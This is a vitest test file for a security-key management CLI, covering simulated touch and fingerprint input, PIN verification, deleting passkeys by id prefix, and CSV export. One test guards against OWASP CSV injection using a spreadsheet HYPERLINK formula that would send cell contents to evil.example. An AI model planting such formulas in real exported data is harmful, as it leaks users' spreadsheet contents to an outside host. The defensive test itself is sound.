// Practising on a simulated key (touch and fingerprint scripts), checking a PIN without changing
// it, credential ids by a unique start, and lists as CSV.
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseJson, skm, tempDir, type JsonError } from './helpers.js';
import { b64url, loadState, passkey, PIN, seedKey, skmOnTerminal } from './tty-session.js';

let tmp: Awaited<ReturnType<typeof tempDir>>;
let path: string;
beforeEach(async () => {
  tmp = await tempDir();
  path = tmp.file('key.json');
});
afterEach(async () => {
  await tmp.cleanup();
});

describe('practice options with --virtual', () => {
  it('--virtual-touch MS: the simulated person touches late, so the countdown ticks on a terminal', async () => {
    await seedKey(path, { preset: 'ctap21' });
    const result = await skmOnTerminal(['--virtual', path, '--virtual-touch', '2500', '--yes', 'reset'], []);
    expect(result.code).toBe(0);
    const ticks = new Set(result.stderr.match(/\(\d+ s left\)/g));
    expect(ticks.size).toBeGreaterThanOrEqual(2);
  });

  it('--virtual-touch deny / never: the person declines or walks away', async () => {
    await seedKey(path, { preset: 'ctap21', pin: null });
    const denied = await skm(['--virtual', path, '--virtual-touch', 'deny', '--json', 'test']);
    expect(denied.code).toBe(1);
    expect(parseJson<JsonError>(denied).error.code).toMatch(/OPERATION_DENIED|KEY_FAILURE|TOUCH_TIMEOUT/);
    const bad = await skm(['--virtual', path, '--virtual-touch', 'sometimes', 'info']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--virtual-touch must be approve, deny, never, or a delay in milliseconds.');
  });

  it('--virtual-samples: the simulated sensor reads the samples given, so poor samples are answered', async () => {
    await seedKey(path, { preset: 'bio' });
    const result = await skm(['--virtual', path, '--virtual-samples', 'too-high,good,poor-quality,good,good,good', 'bio', 'enroll', '--name', 'Thumb'], { stdin: `${PIN}\n` });
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('Your finger was too high on the sensor.');
    expect(result.stderr).toContain('The sample was not clear.');
    expect((await loadState(path)).templates).toHaveLength(1);
    const unknown = await skm(['--virtual', path, '--virtual-samples', 'good,smudged', 'bio', 'enroll']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('poor-quality');
    expect(unknown.stderr).not.toContain('smudged');
  });
});

describe('skm pin verify', () => {
  it('says the PIN is right with the tries left, and changes nothing', async () => {
    await seedKey(path, { preset: 'ctap21', change: (state) => (state.pinRetries = 6) });
    const result = await skm(['--virtual', path, 'pin', 'verify'], { stdin: `${PIN}\n` });
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('The PIN is correct (8 tries left). Nothing was changed.\n');
    const state = await loadState(path);
    expect(state.pinRetries).toBe(8);
    const json = await skm(['--virtual', path, '--json', 'pin', 'verify'], { stdin: `${PIN}\n` });
    expect(parseJson(json)).toEqual({ verified: true, pinRetries: 8, forcePinChange: false });
  });

  it('a wrong PIN costs a try and says how many are left (exit 1)', async () => {
    await seedKey(path, { preset: 'ctap21' });
    const result = await skm(['--virtual', path, '--json', 'pin', 'verify'], { stdin: '000000\n' });
    expect(result.code).toBe(1);
    expect(parseJson<JsonError>(result).error).toMatchObject({ code: 'PIN_INVALID', retries: 7 });
    const none = tmp.file('none.json');
    await seedKey(none, { preset: 'ctap21', pin: null });
    expect(parseJson<JsonError>(await skm(['--virtual', none, '--json', 'pin', 'verify'])).error.code).toBe('PIN_NOT_SET');
  });

  it('works on CTAP 2.0 keys too (legacy token)', async () => {
    await seedKey(path, { preset: 'ctap20' });
    const result = await skm(['--virtual', path, 'pin', 'verify'], { stdin: `${PIN}\n` });
    expect(result.code).toBe(0);
  });
});

describe('credential ids by a unique start', () => {
  const a = passkey({ rpId: 'a.example', user: 'ann' });
  const b = passkey({ rpId: 'b.example', user: 'ben' });

  it('deletes the one passkey whose id starts with the text; several matches are named', async () => {
    // Give both ids a shared start, so a short prefix is ambiguous.
    a.id[0] = 0x61;
    a.id[1] = 0x62;
    b.id[0] = 0x61;
    b.id[1] = 0x62;
    await seedKey(path, { preset: 'ctap21', credentials: [a, b] });
    const shared = b64url(a.id).slice(0, 2);
    const ambiguous = await skm(['--virtual', path, '--yes', '--json', 'creds', 'delete', shared], { stdin: `${PIN}\n` });
    expect(ambiguous.code).toBe(2);
    const error = parseJson<JsonError>(ambiguous).error;
    expect(error.message).toContain(`"${shared}" is the start of 2 passkeys`);
    expect(error.message).toContain(`${b64url(a.id)} (a.example, ann)`);
    expect(error.message).toContain(`${b64url(b.id)} (b.example, ben)`);
    const prefix = b64url(a.id).slice(0, 12);
    const deleted = await skm(['--virtual', path, '--yes', 'creds', 'delete', prefix], { stdin: `${PIN}\n` });
    expect(deleted.code).toBe(0);
    expect(deleted.stdout).toBe('Deleted the passkey for a.example (ann).\n');
    expect((await loadState(path)).credentials.map((c) => c.rpId)).toEqual(['b.example']);
  });
});

describe('--csv', () => {
  it('creds list, bio list and list print CSV that a CSV reader gets back exactly, headed by the JSON field names', async () => {
    const tricky = passkey({ rpId: 'x.example', rpName: 'Comma, "quotes"\nand a newline', user: 'zoë' });
    await seedKey(path, { preset: 'bio', credentials: [tricky], templates: [{ id: 'a1', name: 'Left, thumb' }] });
    const creds = await skm(['--virtual', path, '--csv', 'creds', 'list'], { stdin: `${PIN}\n` });
    expect(creds.code).toBe(0);
    const rows = parse(creds.stdout) as string[][];
    expect(rows[0]).toEqual(['rpId', 'rpName', 'userName', 'userDisplayName', 'credentialId', 'credProtect', 'largeBlobKey']);
    expect(rows[1]).toEqual(['x.example', 'Comma, "quotes"\nand a newline', 'zoë', '', b64url(tricky.id), '1', 'false']);
    const bio = parse((await skm(['--virtual', path, '--csv', 'bio', 'list'], { stdin: `${PIN}\n` })).stdout) as string[][];
    expect(bio).toEqual([
      ['templateId', 'name'],
      ['a1', 'Left, thumb'],
    ]);
    const keys = parse((await skm(['--virtual', path, '--csv', 'list'])).stdout) as string[][];
    expect(keys[0]![0]).toBe('id');
    expect(keys[1]![0]).toMatch(/^virtual:SIM/);
  });

  it('guards names from websites against spreadsheet formulas (OWASP CSV injection); ids stay exact', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const hostile = passkey({ rpId: 'x.example', rpName: '+1 Bank', user: formula });
    await seedKey(path, { preset: 'bio', credentials: [hostile], templates: [{ id: 'a1', name: '@SUM(1)' }] });
    const creds = await skm(['--virtual', path, '--csv', 'creds', 'list'], { stdin: `${PIN}\n` });
    expect(creds.code).toBe(0);
    const rows = parse(creds.stdout) as string[][];
    expect(rows[1]).toEqual(['x.example', "'+1 Bank", `'${formula}`, '', b64url(hostile.id), '1', 'false']);
    // JSON keeps the name exactly as the website chose it.
    const json = await skm(['--virtual', path, '--json', 'creds', 'list'], { stdin: `${PIN}\n` });
    expect(json.stdout).toContain(JSON.stringify(formula));
    const bio = parse((await skm(['--virtual', path, '--csv', 'bio', 'list'], { stdin: `${PIN}\n` })).stdout) as string[][];
    expect(bio[1]).toEqual(['a1', "'@SUM(1)"]);
  });
});
